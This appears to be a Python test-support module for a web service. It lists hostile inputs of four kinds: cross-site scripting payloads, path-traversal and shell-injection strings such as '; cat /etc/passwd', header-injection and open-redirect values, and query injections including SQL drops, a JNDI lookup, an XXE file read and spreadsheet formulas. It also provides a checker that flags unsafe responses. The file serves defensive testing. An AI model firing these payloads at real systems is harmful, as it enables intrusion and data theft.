"""What attackers send, of four kinds, written for these tests; and what an answer must look like whatever was sent.

The ideas are those of public lists, none of whose text stands here: OWASP's cheat sheets on filter evasion and on
injection, the Big List of Naughty Strings, SecLists, PayloadsAllTheThings, and RFC 9110 on what headers may hold.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Mapping
from html.parser import HTMLParser
from typing import Final
from urllib.parse import urlsplit

from werkzeug.wrappers import Response

SCRIPTS: Final = (
    "<script>alert(7)</script>",
    '"><script src=//example.org/x.js></script>',
    "'><img src=x onerror=alert(7)>",
    '" autofocus onfocus=alert(7) x="',
    "' onmouseover='alert(7)",
    "</title><svg/onload=alert(7)>",
    "</textarea></script><script>alert(7)</script>",
    "<svg><a xlink:href='javascript:alert(7)'><text y=9>x</text></a></svg>",
    "<iframe srcdoc='&lt;script&gt;alert(7)&lt;/script&gt;'>",
    "<object data='data:text/html,<script>alert(7)</script>'>",
    "<base href='https://example.org/'>",
    "<meta http-equiv=refresh content='0;url=https://example.org/'>",
    "<form action=https://example.org/><input name=q>",
    "<style>*{background:url(//example.org/x)}</style>",
    "<div style='width:expression(alert(7))'>",
    "javascript:alert(7)//",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==",
    "<<script>>alert(7)//<</script>>",
    "<scr\x00ipt>alert(7)</scr\x00ipt>",
    "%3Cscript%3Ealert(7)%3C/script%3E",
    "&lt;script&gt;alert(7)&lt;/script&gt;",
    "\uff1cscript\uff1ealert(7)\uff1c/script\uff1e",
    "<!--><script>alert(7)</script>-->",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}{% print 7 %}",
    "{{ config.items() }}{{ ''.__class__.__mro__ }}",
    "<mark onclick=alert(7)>x</mark>",
    "<details open ontoggle=alert(7)>",
    "<x hx-get='/sign-out' hx-trigger=load hx-on:load='alert(7)'>",
)

PATHS: Final = (
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%252e%252e%252fetc%252fpasswd",
    "....//....//etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "/proc/self/environ",
    "\x00/etc/passwd",
    "..;/..;/secrets/signing-key.pem",
    "..\uff0f..\uff0fetc\uff0fpasswd",
    "|id",
    "$(id)",
    "`id`",
    "; cat /etc/passwd",
    "con.txt",
)

HEADERS: Final = (
    "x\r\nX-Injected: 1",
    "x\nSet-Cookie: injected=1",
    "x\r\n\r\n<html>injected</html>",
    "x%0d%0aX-Injected:%201",
    "x\u560d\u560aX-Injected: 1",
    "x\u2028X-Injected: 1",
    "x\x0b\x0cX-Injected: 1",
    "//example.org/%2f..",
    "/\\example.org",
    "https://example.org/",
    'x"; filename="evil.html',
)

QUERIES: Final = (
    '"}},"aggs":{"all":{"global":{}}},"x":{"y":{"z":"',
    '{"match_all":{}}',
    "*:* OR readers:*",
    "readers:force\\:scotland",
    "guard:* OR _exists_:guard",
    "_id:* AND _index:cets-audit",
    "' OR '1'='1",
    "1; DROP TABLE evidence--",
    "(((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((",
    "a" * 5_000,
    "a~9999999999",
    "[* TO *]",
    "/(a+)+$/",
    "/.*.*.*.*.*.*.*.*.*.*x/",
    '"unclosed',
    "\\",
    "\\\\\\",
    "NOT NOT NOT",
    "-1",
    "99999999999999999999999999",
    "1e309",
    "NaN",
    "null",
    "true",
    "[]",
    "0x7f",
    "\ud83d",
    "\x00",
    "\x7f\x1b[31m",
    "\u202eevil\u202c",
    "\ufeff\ufffe\uffff",
    "Z\u0351\u036b" * 40,
    "=cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "ctx._source.readers='all'",
    "__proto__",
    "constructor.prototype",
    "${jndi:ldap://example.org/a}",
    "%s%s%s%n%x",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
)

KINDS: Final[Mapping[str, tuple[str, ...]]] = {
    "scripts": SCRIPTS,
    "paths": PATHS,
    "headers": HEADERS,
    "queries": QUERIES,
}

GIVEN_AWAY: Final = re.compile(
    r"Traceback \(most recent|root:[x*]:0:|site-packages|opensearchpy|TransportError|BEGIN [A-Z ]*PRIVATE KEY"
)
"""What no answer holds."""

OWN: Final = "http://localhost"
"""The host that is asked in these tests: an address with two slashes in a row is led to the same with one."""

OPENING: Final = ("=", "+", "-", "@", "\t", "\r")


class _Page(HTMLParser):
    """What of a page a browser would run, load or send elsewhere."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.dangers: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag in {"base", "iframe", "object", "embed", "style", "frame", "applet"}:
            self.dangers.append(tag)
        if tag == "script" and not given.get("src", "").startswith("/static/"):
            self.dangers.append("a script of its own")
        if tag == "meta" and "http-equiv" in given:
            self.dangers.append("meta http-equiv")
        for name, value in given.items():
            if name.startswith(("on", "hx-on")) or name in {"style", "srcdoc"}:
                self.dangers.append(f"{tag} {name}")
            if name in {"href", "src", "action", "formaction", "xlink:href", "data", "hx-get", "hx-post"}:
                self._look_at(f"{tag} {name}", value)

    def _look_at(self, where: str, address: str) -> None:
        # As browsers do: spaces and control characters before, tabs and line ends within are nothing.
        plain = re.sub(r"[\t\r\n]", "", address.removeprefix(OWN).lstrip("".join(map(chr, range(33))))).replace(
            "\\", "/"
        )
        if urlsplit(plain).scheme or plain.startswith("//"):
            self.dangers.append(f"{where} {plain[:40]}")


def dangers(answer: Response) -> list[str]:
    """What is wrong with an answer, whatever was asked: nothing, it is hoped."""
    text = answer.get_data().decode("utf-8", "replace")
    found = [f"status {answer.status_code}"] if answer.status_code >= 500 else []
    found += [f"gives away {held.group(0)}" for held in GIVEN_AWAY.finditer(text)]
    for name, value in answer.headers.items():
        if name == "X-Injected" or value.startswith("injected") or re.search(r"[\r\n\x00]", value):
            found.append(f"header {name}")
    target = answer.headers.get("Location", "/").removeprefix(OWN)
    if not re.match(r"/(?![/\\])", target) or re.search(r"[\x00-\x20\\]", target):
        found.append(f"leads to {target[:60]}")
    if answer.headers.get("X-Content-Type-Options") != "nosniff" or "Content-Security-Policy" not in answer.headers:
        found.append("without its headers")
    if answer.mimetype == "text/html":
        page = _Page()
        page.feed(text)
        found += page.dangers
    if answer.mimetype == "text/csv":
        cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
        found += [f"a formula {cell[:20]}" for cell in cells if cell.startswith(OPENING) and not _number(cell)]
    if answer.mimetype not in _KNOWN:
        found.append(f"of type {answer.mimetype}")
    return found


_KNOWN: Final = {
    "text/html", "text/css", "text/csv", "text/javascript", "image/svg+xml", "application/json",
    "application/problem+json", "application/octet-stream", "application/x-ndjson", "text/plain",
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}  # fmt: skip


def _number(cell: str) -> bool:
    return bool(re.fullmatch(r"-?[0-9.]+", cell))
